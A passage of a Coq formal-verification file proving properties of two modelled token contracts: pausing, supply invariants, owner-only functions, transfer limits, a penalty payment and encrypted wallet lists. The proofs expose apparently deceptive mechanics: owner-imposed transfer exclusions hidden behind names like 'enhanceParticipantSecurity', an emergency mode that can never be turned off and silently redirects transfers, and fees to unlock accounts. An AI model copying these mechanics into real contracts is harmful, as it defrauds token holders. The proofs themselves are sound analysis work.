  assert (Bridge.isExcluded Sample.bridge_bob_excluded Sample.bob = true) as HexB.
  { apply (HB1 Sample.alice [Sample.bob] Sample.bridge_funded);
      [vm_compute; reflexivity|apply list_elem_of_singleton; reflexivity]. }
  split; (split; [assumption|]).
  - exact (proj1 (HT2 1700000030 Sample.bob Sample.carol 10 _ HexT)).
  - exact (proj1 (HB2 (Sample.bridge_env 1700000030) Sample.bob Sample.carol 10 _ HexB)).
Defined.

(** C4 as stated names the wrong error for a paused contract: bob is
    excluded by [enhanceParticipantSecurity([bob])], the owner then pauses,
    and bob's transfer reverts with "Pausable: paused", the [whenNotPaused]
    modifier running before the exclusion check. *)
Lemma C4_counterexample :
  (Template.isExcluded Sample.template_bob_excluded_paused Sample.bob = true
   ∧ Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 10
       Sample.template_bob_excluded_paused
     = Revert (Error "Pausable: paused"))
  ∧ (Bridge.isExcluded Sample.bridge_bob_excluded_paused Sample.bob = true
     ∧ Bridge.transfer (Sample.bridge_env 1700000030) Sample.bob Sample.carol 10
         Sample.bridge_bob_excluded_paused
       = Revert (Error "Pausable: paused")).
Proof. split_and!; vm_compute; reflexivity. Qed.

(** ** C5: pause *)

(** C5.  A call of [pause()] that returns was made by the owner and leaves
    the contract paused.  While the contract is paused every [transfer]
    reverts with "Pausable: paused" and every [transferFrom] reverts,
    whoever the sender and the recipient are, the owner and the exempt
    addresses included.  [unpause()] leaves the contract unpaused, and a
    [pause()] followed by an [unpause()] gives back the storage as it was,
    so that every transfer behaves as before the pause. *)
Theorem C5_pause_blocks_all_transfers {hash : Keccak} :
  ((∀ msg_sender s s',
      Template.pause msg_sender s = Ok s' →
      msg_sender = Template.owner s ∧ Template.paused s' = true)
   ∧ (∀ now sender to amount s,
        Template.paused s = true →
        Template.transfer now sender to amount s = Revert (Error "Pausable: paused")
        ∧ ∀ from, reverted (Template.transferFrom now sender from to amount s))
   ∧ (∀ msg_sender s s',
        Template.unpause msg_sender s = Ok s' →
        msg_sender = Template.owner s ∧ Template.paused s' = false)
   ∧ (∀ o1 o2 s s1 s2,
        Template.pause o1 s = Ok s1 → Template.unpause o2 s1 = Ok s2 → s2 = s))
  ∧ ((∀ msg_sender s s',
        Bridge.pause msg_sender s = Ok s' →
        msg_sender = Bridge.owner s ∧ Bridge.paused s' = true)
     ∧ (∀ e sender to amount s,
          Bridge.paused s = true →
          Bridge.transfer e sender to amount s = Revert (Error "Pausable: paused")
          ∧ ∀ from, reverted (Bridge.transferFrom e sender from to amount s))
     ∧ (∀ msg_sender s s',
          Bridge.unpause msg_sender s = Ok s' →
          msg_sender = Bridge.owner s ∧ Bridge.paused s' = false)
     ∧ (∀ o1 o2 s s1 s2,
          Bridge.pause o1 s = Ok s1 → Bridge.unpause o2 s1 = Ok s2 → s2 = s)).
Proof.
  split; split_and!.
  - intros msg_sender s s' Hr. unfold Template.pause in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply TemplateFacts.onlyOwner_Ok in Ho.
    apply bind_Ok in Hr as (? & _ & Hr). by injection Hr as <-.
  - intros now sender to amount s Hp.
    assert (∀ f s1, Template.paused s1 = true →
              Template._transfer now f to amount s1 = Revert (Error "Pausable: paused"))
      as Hblock.
    { intros f s1 Hp1. unfold Template._transfer, Template.whenNotPaused,
        Pausable.whenNotPaused. by rewrite Hp1. }
    split; [by apply Hblock|].
    intros from. unfold Template.transferFrom.
    destruct (Template.on_erc20 _ s) as [s1|f] eqn:Hs1; simpl; [|done].
    apply TemplateFacts.on_erc20_Ok in Hs1 as (e1 & _ & ->).
    by rewrite Hblock.
  - intros msg_sender s s' Hr. unfold Template.unpause in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply TemplateFacts.onlyOwner_Ok in Ho.
    apply bind_Ok in Hr as (? & _ & Hr). by injection Hr as <-.
  - intros o1 o2 s s1 s2 H1 H2. unfold Template.pause in H1. unfold Template.unpause in H2.
    apply bind_Ok in H1 as (? & _ & H1). apply bind_Ok in H1 as (? & Hn & H1).
    apply require_Ok, negb_true_iff in Hn. injection H1 as <-.
    apply bind_Ok in H2 as (? & _ & H2). apply bind_Ok in H2 as (? & _ & H2).
    injection H2 as <-. destruct s. simpl in *. by subst.
  - intros msg_sender s s' Hr. unfold Bridge.pause in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply require_Ok, bool_decide_eq_true_1 in Ho.
    apply bind_Ok in Hr as (? & _ & Hr). by injection Hr as <-.
  - intros e sender to amount s Hp.
    assert (∀ f s1, Bridge.paused s1 = true →
              Bridge._transfer e f to amount s1 = Revert (Error "Pausable: paused"))
      as Hblock.
    { intros f s1 Hp1. unfold Bridge._transfer, Bridge.whenNotPaused,
        Pausable.whenNotPaused. by rewrite Hp1. }
    split; [by apply Hblock|].
    intros from. unfold Bridge.transferFrom.
    destruct (Bridge.on_erc20 _ s) as [s1|f] eqn:Hs1; simpl; [|done].
    apply BridgeFacts.bridge_on_erc20_Ok in Hs1 as (e1 & _ & ->).
    by rewrite Hblock.
  - intros msg_sender s s' Hr. unfold Bridge.unpause in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply require_Ok, bool_decide_eq_true_1 in Ho.
    apply bind_Ok in Hr as (? & _ & Hr). by injection Hr as <-.
  - intros o1 o2 s s1 s2 H1 H2. unfold Bridge.pause in H1. unfold Bridge.unpause in H2.
    apply bind_Ok in H1 as (? & _ & H1). apply bind_Ok in H1 as (? & Hn & H1).
    apply require_Ok, negb_true_iff in Hn. injection H1 as <-.
    apply bind_Ok in H2 as (? & _ & H2). apply bind_Ok in H2 as (? & _ & H2).
    injection H2 as <-. destruct s. simpl in *. by subst.
Qed.

Lemma C5_pause_blocks_all_transfers_witness :
  (Template.paused Sample.template_paused = true
   ∧ Template.isExempt Sample.template_paused Sample.alice = true
   ∧ Template.owner Sample.template_paused = Sample.alice
   ∧ Template.transfer (hash:=sample_keccak) 1700000030 Sample.alice Sample.bob 10
       Sample.template_paused
     = Revert (Error "Pausable: paused")
   ∧ Template.transact (hash:=sample_keccak) 1700000040 Sample.alice Template.c_unpause
       Sample.template_paused
     = Sample.template_funded)
  ∧ (Bridge.paused Sample.bridge_paused = true
     ∧ Bridge.isExempt Sample.bridge_paused Sample.alice = true
     ∧ Bridge.owner Sample.bridge_paused = Sample.alice
     ∧ Bridge.transfer (Sample.bridge_env 1700000030) Sample.alice Sample.bob 10
         Sample.bridge_paused
       = Revert (Error "Pausable: paused")
     ∧ Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.alice
         Bridge.c_unpause Sample.bridge_paused
       = Sample.bridge_funded).
Proof.
  destruct (C5_pause_blocks_all_transfers (hash:=sample_keccak))
    as [(HT1 & HT2 & _ & HT4) (HB1 & HB2 & _ & HB4)].
  assert (Template.pause Sample.alice Sample.template_funded = Ok Sample.template_paused)
    as HpT by (vm_compute; reflexivity).
  assert (Bridge.pause Sample.alice Sample.bridge_funded = Ok Sample.bridge_paused)
    as HpB by (vm_compute; reflexivity).
  split; split_and!.
  - exact (proj2 (HT1 _ _ _ HpT)).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - exact (proj1 (HT2 1700000030 Sample.alice Sample.bob 10 _ (proj2 (HT1 _ _ _ HpT)))).
  - apply (HT4 Sample.alice Sample.alice _ _ _ HpT). vm_compute. reflexivity.
  - exact (proj2 (HB1 _ _ _ HpB)).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - exact (proj1 (HB2 (Sample.bridge_env 1700000030) Sample.alice Sample.bob 10 _
                    (proj2 (HB1 _ _ _ HpB)))).
  - apply (HB4 Sample.alice Sample.alice _ _ _ HpB). vm_compute. reflexivity.
Defined.

(** ** C6: total supply equals the sum of the balances *)

(** C6.  The constructor leaves [totalSupply() = initialSupply], all of it
    held by the deployer, and establishes the supply invariant
    ([Template.inv]: the balances add up to [totalSupply]); [transfer],
    [allocateProtocolReserves], [reduceCirculatingSupply] and
    [optimizeWalletCompliance], and indeed every call that returns, carry
    the invariant from the storage before to the storage after; hence in
    every reachable storage [totalSupply()] is the sum of all balances. *)
Theorem C6_supply_is_sum_of_balances {hash : Keccak} :
  (∀ now deployer name_ symbol_ initialSupply s,
     is_uint256 initialSupply →
     Template.constructor now deployer name_ symbol_ initialSupply = Ok s →
     Template.inv s
     ∧ Template.totalSupply s = initialSupply
     ∧ Template.balanceOf s deployer = initialSupply
     ∧ sum_values (ERC20._balances (Template.erc20 s)) = Template.totalSupply s)
  ∧ (∀ now msg_sender to amount s s',
       Template.inv s → is_uint256 amount →
       Template.transfer now msg_sender to amount s = Ok s' → Template.inv s')
  ∧ (∀ now msg_sender to amount s s',
       Template.inv s → is_uint256 amount →
       Template.allocateProtocolReserves now msg_sender to amount s = Ok s' →
       Template.inv s')
  ∧ (∀ now msg_sender amount s s',
       Template.inv s → is_uint256 amount →
       Template.reduceCirculatingSupply now msg_sender amount s = Ok s' →
       Template.inv s')
  ∧ (∀ now msg_sender account amount s s',
       Template.inv s → is_uint256 amount →
       Template.optimizeWalletCompliance now msg_sender account amount s = Ok s' →
       Template.inv s')
  ∧ (∀ now msg_sender c s s',
       Template.inv s → Template.valid_call c →
       Template.dispatch now msg_sender c s = Ok s' → Template.inv s')
  ∧ (∀ s, Template.reachable s →
       sum_values (ERC20._balances (Template.erc20 s)) = Template.totalSupply s).
Proof.
  split_and!.
  - intros now deployer name_ symbol_ supply s [Hs _] Hr.
    pose proof (TemplateFacts.constructor_inv _ _ _ _ _ _ Hs Hr) as Hinv.
    unfold Template.constructor in Hr.
    apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as <-.
    apply TemplateFacts.on_erc20_Ok in Hs1 as (e & He & ->).
    eapply ERC20Facts._mint_Ok in He as (_ & Hts & Hb & _);
      [|apply ERC20Facts.inv_init|done].
    unfold Template.totalSupply, Template.balanceOf, ERC20.totalSupply. simpl.
    split_and!; [done| | |apply Hinv].
    + rewrite Hts. simpl. lia.
    + rewrite Hb. rewrite decide_True by done.
      unfold ERC20.balanceOf. simpl. rewrite mget_empty. lia.
  - intros now msg_sender to amount s s' Hinv Ha Hr.
    by apply (TemplateFacts.dispatch_inv now msg_sender (Template.c_transfer to amount) s).
  - intros now msg_sender to amount s s' Hinv Ha Hr.
    by apply (TemplateFacts.dispatch_inv now msg_sender
                (Template.c_allocateProtocolReserves to amount) s).
  - intros now msg_sender amount s s' Hinv Ha Hr.
    by apply (TemplateFacts.dispatch_inv now msg_sender
                (Template.c_reduceCirculatingSupply amount) s).
  - intros now msg_sender account amount s s' Hinv Ha Hr.
    by apply (TemplateFacts.dispatch_inv now msg_sender
                (Template.c_optimizeWalletCompliance account amount) s).
  - intros. by eapply TemplateFacts.dispatch_inv.
  - intros s Hre. by apply TemplateFacts.reachable_inv in Hre as (_ & Hsum & _).
Qed.

Lemma C6_supply_is_sum_of_balances_witness :
  sum_values (ERC20._balances (Template.erc20 Sample.template_deployed)) = 1000
  ∧ sum_values (ERC20._balances (Template.erc20 Sample.template_emergency))
    = Template.totalSupply Sample.template_emergency
  ∧ Template.inv
      (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
         (Template.c_reduceCirculatingSupply 30) Sample.template_funded).
Proof.
  destruct (C6_supply_is_sum_of_balances (hash:=sample_keccak))
    as (H0 & _ & _ & H3 & _ & _ & H6).
  split_and!.
  - destruct (H0 1700000000 Sample.alice "Sample" "SMP" 1000 Sample.template_deployed)
      as (_ & Hts & _ & Hsum).
    + vm_compute. split; discriminate.
    + vm_compute. reflexivity.
    + rewrite Hsum. exact Hts.
  - apply H6. apply SampleFacts.template_emergency_reachable.
  - apply (H3 1700000030 Sample.bob 30 Sample.template_funded).
    + destruct (H0 1700000000 Sample.alice "Sample" "SMP" 1000 Sample.template_deployed)
        as (Hinv & _).
      * vm_compute. split; discriminate.
      * vm_compute. reflexivity.
      * apply (TemplateFacts.dispatch_inv (hash:=sample_keccak) 1700000010 Sample.alice
                 (Template.c_transfer Sample.bob 100) Sample.template_deployed);
          [exact Hinv|vm_compute; split; discriminate|vm_compute; reflexivity].
    + vm_compute. split; discriminate.
    + vm_compute. reflexivity.
Defined.

(** ** C7: [onlyOwner] *)

(** C7.  For each of the twelve functions of the template guarded by
    [onlyOwner] ([Template.owner_only]: setPair, updateSecurityProtocol,
    optimizeProtocolPerformance, setNetworkValidator,
    enhanceParticipantSecurity, setExempt, setTradingStatus,
    setMaxTransactionLimit, setMaxWalletLimit, pause, unpause,
    allocateProtocolReserves), a call from an account other than the owner
    reverts with "Ownable: caller is not the owner" and the storage after
    the transaction is the storage before it. *)
Theorem C7_owner_only_rejects_others {hash : Keccak} now msg_sender c s :
  Template.owner_only c = true →
  msg_sender ≠ Template.owner s →
  Template.dispatch now msg_sender c s
  = Revert (Error "Ownable: caller is not the owner")
  ∧ Template.transact now msg_sender c s = s.
Proof.
  intros Hc Hne.
  assert (Template.dispatch now msg_sender c s
          = Revert (Error "Ownable: caller is not the owner")) as Hd.
  { destruct c; try discriminate Hc; simpl;
      unfold Template.setPair, Template.updateSecurityProtocol,
        Template.optimizeProtocolPerformance, Template.setNetworkValidator,
        Template.enhanceParticipantSecurity, Template.setExempt,
        Template.setTradingStatus, Template.setMaxTransactionLimit,
        Template.setMaxWalletLimit, Template.pause, Template.unpause,
        Template.allocateProtocolReserves;
      by rewrite TemplateFacts.onlyOwner_other. }
  split; [done|]. unfold Template.transact. by rewrite Hd.
Qed.

Lemma C7_owner_only_rejects_others_witness :
  Template.dispatch (hash:=sample_keccak) 1700000030 Sample.bob
    (Template.c_allocateProtocolReserves Sample.bob 1000000) Sample.template_funded
  = Revert (Error "Ownable: caller is not the owner")
  ∧ Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
      (Template.c_allocateProtocolReserves Sample.bob 1000000) Sample.template_funded
    = Sample.template_funded.
Proof.
  apply (C7_owner_only_rejects_others (hash:=sample_keccak)).
  - reflexivity.
  - vm_compute. discriminate.
Defined.

(** ** C8: the limit setters *)

(** C8.  A call of [setMaxTransactionLimit(amount)] that returns was made
    by the owner and changes the stored [maxTransactionLimit] and nothing
    else; a call of [setMaxWalletLimit(amount)] that returns changes the
    stored [maxWalletLimit] and nothing else.  In particular balances,
    total supply, exemption flags and exclusion flags are as before. *)
Theorem C8_limit_setters_change_only_the_limit :
  ((∀ msg_sender amount s s',
      Template.setMaxTransactionLimit msg_sender amount s = Ok s' →
      msg_sender = Template.owner s
      ∧ s' = Template.set_maxTransactionLimit amount s
      ∧ Template.maxTransactionLimit s' = amount
      ∧ Template.maxWalletLimit s' = Template.maxWalletLimit s
      ∧ Template.erc20 s' = Template.erc20 s
      ∧ Template._securityExemptions s' = Template._securityExemptions s
      ∧ Template._protocolExclusions s' = Template._protocolExclusions s)
   ∧ (∀ msg_sender amount s s',
        Template.setMaxWalletLimit msg_sender amount s = Ok s' →
        msg_sender = Template.owner s
        ∧ s' = Template.set_maxWalletLimit amount s
        ∧ Template.maxWalletLimit s' = amount
        ∧ Template.maxTransactionLimit s' = Template.maxTransactionLimit s
        ∧ Template.erc20 s' = Template.erc20 s
        ∧ Template._securityExemptions s' = Template._securityExemptions s
        ∧ Template._protocolExclusions s' = Template._protocolExclusions s))
  ∧ ((∀ msg_sender amount s s',
        Bridge.setMaxTransactionLimit msg_sender amount s = Ok s' →
        msg_sender = Bridge.owner s
        ∧ s' = Bridge.set_maxTransactionLimit amount s
        ∧ Bridge.maxTransactionLimit s' = amount
        ∧ Bridge.maxWalletLimit s' = Bridge.maxWalletLimit s
        ∧ Bridge.erc20 s' = Bridge.erc20 s
        ∧ Bridge._securityExemptions s' = Bridge._securityExemptions s
        ∧ Bridge._protocolExclusions s' = Bridge._protocolExclusions s)
     ∧ (∀ msg_sender amount s s',
          Bridge.setMaxWalletLimit msg_sender amount s = Ok s' →
          msg_sender = Bridge.owner s
          ∧ s' = Bridge.set_maxWalletLimit amount s
          ∧ Bridge.maxWalletLimit s' = amount
          ∧ Bridge.maxTransactionLimit s' = Bridge.maxTransactionLimit s
          ∧ Bridge.erc20 s' = Bridge.erc20 s
          ∧ Bridge._securityExemptions s' = Bridge._securityExemptions s
          ∧ Bridge._protocolExclusions s' = Bridge._protocolExclusions s)).
Proof.
  split; split; intros msg_sender amount s s' Hr;
    apply bind_Ok in Hr as (? & Ho & Hr);
    apply require_Ok, bool_decide_eq_true_1 in Ho;
    injection Hr as <-; by split_and!.
Qed.

Lemma C8_limit_setters_change_only_the_limit_witness :
  (Template.maxTransactionLimit
     (commit Sample.template_funded
        (Template.setMaxTransactionLimit Sample.alice 5 Sample.template_funded)) = 5
   ∧ Template.erc20
       (commit Sample.template_funded
          (Template.setMaxTransactionLimit Sample.alice 5 Sample.template_funded))
     = Template.erc20 Sample.template_funded)
  ∧ (Bridge.maxWalletLimit
       (commit Sample.bridge_funded
          (Bridge.setMaxWalletLimit Sample.alice 5 Sample.bridge_funded)) = 5
     ∧ Bridge.erc20
         (commit Sample.bridge_funded
            (Bridge.setMaxWalletLimit Sample.alice 5 Sample.bridge_funded))
       = Bridge.erc20 Sample.bridge_funded).
Proof.
  destruct C8_limit_setters_change_only_the_limit as [[HT1 _] [_ HB2]].
  split.
  - destruct (HT1 Sample.alice 5 Sample.template_funded
                (commit Sample.template_funded
                   (Template.setMaxTransactionLimit Sample.alice 5 Sample.template_funded)))
      as (_ & _ & H1 & _ & H2 & _); [vm_compute; reflexivity|]. by split.
  - destruct (HB2 Sample.alice 5 Sample.bridge_funded
                (commit Sample.bridge_funded
                   (Bridge.setMaxWalletLimit Sample.alice 5 Sample.bridge_funded)))
      as (_ & _ & H1 & _ & H2 & _); [vm_compute; reflexivity|]. by split.
Defined.

(** ** C10: [paySecurityPenalty] *)

(** C10.  Called from outside (the reentrancy guard is not entered) on a
    storage whose [penaltyAmounts] is the array the contract was created
    with, [paySecurityPenalty(tokenType)] reverts if and only if the
    caller's [failedAttempts] is below 6, or [paidPenalties] is already
    set, or [tokenType] is none of 0, 1, 2, or the [transferFrom] of the
    penalty token does not return [true].  When it returns, it has set the
    caller's [paidPenalties] and changed nothing else in the record, and
    every further call by the same caller on the resulting storage reverts.
    When it reverts, the caller's [UserSecurity] record is as before. *)
Theorem C10_paySecurityPenalty_reverts_iff {hash : Keccak} e msg_sender tokenType x s :
  Bridge._status s = ReentrancyGuard._NOT_ENTERED →
  Bridge.penaltyAmounts s = Bridge.initial_penaltyAmounts →
  (reverted (Bridge.paySecurityPenalty e msg_sender tokenType x s)
   ↔ Bridge.failedAttempts (Bridge.security s msg_sender) < 6
     ∨ Bridge.paidPenalties (Bridge.security s msg_sender) = true
     ∨ ¬ (tokenType = 0 ∨ tokenType = 1 ∨ tokenType = 2)
     ∨ x ≠ returns true)
  ∧ (∀ s',
       Bridge.paySecurityPenalty e msg_sender tokenType x s = Ok s' →
       Bridge.security s' msg_sender
       = Bridge.with_paidPenalties true (Bridge.security s msg_sender)
       ∧ Bridge.paidPenalties (Bridge.security s' msg_sender) = true
       ∧ ∀ e' tokenType' x',
           reverted (Bridge.paySecurityPenalty e' msg_sender tokenType' x' s'))
  ∧ (reverted (Bridge.paySecurityPenalty e msg_sender tokenType x s) →
     Bridge.security
       (Bridge.transact e msg_sender (Bridge.c_paySecurityPenalty tokenType x) s) msg_sender
     = Bridge.security s msg_sender).
Proof.
  intros Hst Hpa.
  pose proof (BridgeFacts.paySecurityPenalty_result e msg_sender tokenType x s Hst Hpa)
    as Hres.
  split_and!.
  - destruct (Bridge.paySecurityPenalty e msg_sender tokenType x s) as [s'|f]; simpl.
    + destruct Hres as (Hfa & Hpaid & Htok & Hx & _). split; [done|].
      intros [?|[?|[?|?]]]; [lia|congruence|done|done].
    + done.
  - intros s' Hr. rewrite Hr in Hres. destruct Hres as (_ & _ & _ & _ & ->).
    assert (Bridge.security
              (Bridge.set_security msg_sender
                 (Bridge.with_paidPenalties true (Bridge.security s msg_sender)) s)
              msg_sender
            = Bridge.with_paidPenalties true (Bridge.security s msg_sender)) as Hsec.
    { unfold Bridge.security at 1, Bridge.set_security. simpl. by rewrite mget_insert_eq. }
    split_and!; [done|by rewrite Hsec|].
    intros e' tokenType' x'.
    pose proof (BridgeFacts.paySecurityPenalty_result e' msg_sender tokenType' x'
                  (Bridge.set_security msg_sender
                     (Bridge.with_paidPenalties true (Bridge.security s msg_sender)) s)
                  Hst Hpa) as Hres'.
    destruct (Bridge.paySecurityPenalty e' msg_sender tokenType' x' _) as [s''|f]; [|done].
    destruct Hres' as (_ & Hpaid & _). rewrite Hsec in Hpaid. discriminate Hpaid.
  - intros Hrev. unfold Bridge.transact. simpl.
    by destruct (Bridge.paySecurityPenalty e msg_sender tokenType x s).
Qed.

Lemma C10_paySecurityPenalty_reverts_iff_witness :
  (∃ s', Bridge.paySecurityPenalty (Sample.bridge_env 1700090000)
           Sample.bob 0 (returns true) Sample.bridge_bob_locked = Ok s'
         ∧ Bridge.paidPenalties (Bridge.security s' Sample.bob) = true
         ∧ reverted (Bridge.paySecurityPenalty (Sample.bridge_env 1700090001) Sample.bob 0 (returns true) s'))
  ∧ reverted (Bridge.paySecurityPenalty (Sample.bridge_env 1700090000) Sample.bob 3 (returns true)
                Sample.bridge_bob_locked)
  ∧ reverted (Bridge.paySecurityPenalty (Sample.bridge_env 1700090000) Sample.bob 1 (returns false)
                Sample.bridge_bob_locked)
  ∧ reverted (Bridge.paySecurityPenalty (Sample.bridge_env 1700090000) Sample.alice 0 (returns true)
                Sample.bridge_bob_locked).
Proof.
  assert (Bridge._status Sample.bridge_bob_locked = ReentrancyGuard._NOT_ENTERED) as Hst
    by (vm_compute; reflexivity).
  assert (Bridge.penaltyAmounts Sample.bridge_bob_locked = Bridge.initial_penaltyAmounts)
    as Hpa by (vm_compute; reflexivity).
  split_and!.
  - destruct (C10_paySecurityPenalty_reverts_iff (hash:=sample_keccak)
                (Sample.bridge_env 1700090000) Sample.bob 0 (returns true)
                Sample.bridge_bob_locked Hst Hpa) as (_ & Hok & _).
    eexists. split; [vm_compute; reflexivity|].
    edestruct Hok as (_ & Hpaid & Hagain); [vm_compute; reflexivity|].
    split; [exact Hpaid|apply Hagain].
  - destruct (C10_paySecurityPenalty_reverts_iff (hash:=sample_keccak)
                (Sample.bridge_env 1700090000) Sample.bob 3 (returns true)
                Sample.bridge_bob_locked Hst Hpa) as ([_ Hrev] & _).
    apply Hrev. right. right. left. intros [?|[?|?]]; discriminate.
  - destruct (C10_paySecurityPenalty_reverts_iff (hash:=sample_keccak)
                (Sample.bridge_env 1700090000) Sample.bob 1 (returns false)
                Sample.bridge_bob_locked Hst Hpa) as ([_ Hrev] & _).
    apply Hrev. do 3 right. discriminate.
  - destruct (C10_paySecurityPenalty_reverts_iff (hash:=sample_keccak)
                (Sample.bridge_env 1700090000) Sample.alice 0 (returns true)
                Sample.bridge_bob_locked Hst Hpa) as ([_ Hrev] & _).
    apply Hrev. left. vm_compute. reflexivity.
Defined.

(** C9.  For every list of wallets (objects of three strings), every
    password whose hex decoding has 32 bytes and every 16-byte draw of the
    IV, [encrypt] returns and [decrypt] -- the generator's and the one of
    the distribution and simulation scripts -- applied to the encrypted
    data, the IV and the password returns the list of wallets. *)
Theorem C9_decrypt_recovers_wallets (ws : list Wallets.wallet) (random_iv password : list Z) :
  Forall Wallets.is_wallet ws →
  AES.block random_iv →
  length (Buffer.from_hex password) = 32%nat →
  ∃ e,
    Wallets.encrypt random_iv (Wallets.wallets_value ws) password = Some e
    ∧ Wallets.decrypt (Wallets.encryptedData e) (Wallets.iv e) password
      = Some (Wallets.wallets_value ws)
    ∧ Scripts.decrypt (Wallets.encryptedData e) (Wallets.iv e) password
      = Some (Wallets.wallets_value ws).
Proof.
  intros Hws Hiv Hkey. apply RoundTrip.decrypt_encrypt; [| |assumption..].
  - by apply WalletsFacts.well_formed_wallets.
  - by apply WalletsFacts.parse_stringify_wallets.
Qed.

Lemma C9_decrypt_recovers_wallets_witness :
  ∃ e,
    Wallets.encrypt WalletSample.iv (Wallets.wallets_value WalletSample.wallets)
      WalletSample.password = Some e
    ∧ Wallets.decrypt (Wallets.encryptedData e) (Wallets.iv e) WalletSample.password
      = Some (Wallets.wallets_value WalletSample.wallets)
    ∧ Scripts.decrypt (Wallets.encryptedData e) (Wallets.iv e) WalletSample.password
      = Some (Wallets.wallets_value WalletSample.wallets).
Proof.
  apply (C9_decrypt_recovers_wallets WalletSample.wallets WalletSample.iv
           WalletSample.password).
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - vm_compute. reflexivity.
Defined.

(** * Further properties of the programs *)

(** ** The token template *)

(** X1.  Once on, the emergency mode stays on: after any call that
    returns, whoever made it, [emergencyModeActive] is still set.  No
    function of the template clears the flag, [updateSecurityProtocol]
    with any level included. *)
Theorem emergency_mode_never_ends {hash : Keccak} now msg_sender c s s' :
  Template.emergencyModeActive s = true →
  Template.dispatch now msg_sender c s = Ok s' →
  Template.emergencyModeActive s' = true.
Proof.
  intros Hex Hr.
  destruct c; simpl in Hr; TemplateMore.unfold_calls Hr; peel_all; TemplateMore.callees;
    try done.
  by rewrite (proj1 (TemplateMore.enhance_loop_emergency _ _)).
Qed.

Lemma emergency_mode_never_ends_witness :
  Template.emergencyModeActive
    (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
       (Template.c_updateSecurityProtocol 0) Sample.template_emergency) = true.
Proof.
  apply (emergency_mode_never_ends (hash:=sample_keccak) 1700000030 Sample.alice
           (Template.c_updateSecurityProtocol 0) Sample.template_emergency);
    vm_compute; reflexivity.
Defined.

(** X2.  A [transfer] that returns is recorded only when it is not
    redirected: a redirected one leaves [getInteractionStats], the
    interaction records and the sender's list of interactions as they
    were; any other raises [getInteractionStats] by one and appends the
    identifier of the new record to the sender's list. *)
Theorem redirected_transfer_leaves_no_record {hash : Keccak} now from to amount s s' :
  Template.transfer now from to amount s = Ok s' →
  if Template._shouldApplyEmergencyProtocol s from then
    Template.getInteractionStats s' = Template.getInteractionStats s
    ∧ Template._protocolData s' = Template._protocolData s
    ∧ Template._userInteractions s' = Template._userInteractions s
  else
    Template.getInteractionStats s' = Template.getInteractionStats s + 1
    ∧ mget [] (Template._userInteractions s') from
      = mget [] (Template._userInteractions s) from
        ++ [keccak256 (encodePacked [p_address from; p_uint8 4; p_uint256 now])].
Proof.
  intros Hr.
  apply TemplateFacts.transfer_override_Ok in Hr
    as (_ & _ & [(-> & e & _ & ->)|(-> & s1 & e & Hrec & _ & ->)]); [done|].
  apply TemplateMore._recordInteraction_stats in Hrec as (H1 & H2 & _). done.
Qed.

Lemma redirected_transfer_leaves_no_record_witness :
  Template.getInteractionStats
    (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
       (Template.c_transfer Sample.carol 10) Sample.template_emergency)
  = Template.getInteractionStats Sample.template_emergency
  ∧ Template.getInteractionStats Sample.template_funded
    = Template.getInteractionStats Sample.template_deployed + 1.
Proof.
  split.
  - assert (Hw := redirected_transfer_leaves_no_record (hash:=sample_keccak) 1700000030
                    Sample.bob Sample.carol 10 Sample.template_emergency
                    (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
                       (Template.c_transfer Sample.carol 10) Sample.template_emergency)
                    ltac:(vm_compute; reflexivity)).
    vm_compute in Hw. vm_compute. exact (proj1 Hw).
  - assert (Hw := redirected_transfer_leaves_no_record (hash:=sample_keccak) 1700000010
                    Sample.alice Sample.bob 100 Sample.template_deployed
                    Sample.template_funded ltac:(vm_compute; reflexivity)).
    vm_compute in Hw. vm_compute. exact (proj1 Hw).
Defined.

(** X3.  Between two addresses that are not exempt, outside the emergency
    mode, on a contract that is not paused and for a sender that is not
    excluded, [transfer] reverts with "Protocol: Trading not enabled" while
    trading is off; with trading on it reverts with "Protocol: Transaction
    exceeds limit" when the amount is above [maxTransactionLimit], and
    otherwise with "Protocol: Wallet limit exceeded" when the recipient's
    balance would pass [maxWalletLimit]. *)
Theorem trading_restrictions {hash : Keccak} now from to amount s :
  Template.paused s = false →
  Template.isExcluded s from = false →
  Template.emergencyModeActive s = false →
  Template.isExempt s from = false →
  Template.isExempt s to = false →
  (Template.tradingEnabled s = false →
     Template.transfer now from to amount s = Revert (Error "Protocol: Trading not enabled"))
  ∧ (Template.tradingEnabled s = true → Template.maxTransactionLimit s < amount →
       Template.transfer now from to amount s
       = Revert (Error "Protocol: Transaction exceeds limit"))
  ∧ (Template.tradingEnabled s = true → amount ≤ Template.maxTransactionLimit s →
       Template.maxWalletLimit s < Template.balanceOf s to + amount ≤ uint256_max →
       Template.transfer now from to amount s
       = Revert (Error "Protocol: Wallet limit exceeded")).
Proof.
  intros Hp Hx Hem Hf Ht.
  unfold Template.transfer, Template._transfer, Template.whenNotPaused,
    Pausable.whenNotPaused, Template._shouldApplyEmergencyProtocol.
  rewrite Hp, Hx, Hem, Hf, Ht. simpl.
  split; [|split].
  - intros ->. reflexivity.
  - intros -> Hlim. simpl. by rewrite bool_decide_eq_false_2 by lia.
  - intros -> Hlim [Hw Hmax]. simpl. rewrite bool_decide_eq_true_2 by lia. simpl.
    unfold checked_add. rewrite decide_True by done. simpl.
    by rewrite bool_decide_eq_false_2 by lia.
Qed.

Lemma trading_restrictions_witness :
  Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 10
    Sample.template_funded
  = Revert (Error "Protocol: Trading not enabled")
  ∧ Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 2000
      Scenes.template_trading_on
    = Revert (Error "Protocol: Transaction exceeds limit")
  ∧ Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 10
      Scenes.template_small_wallets
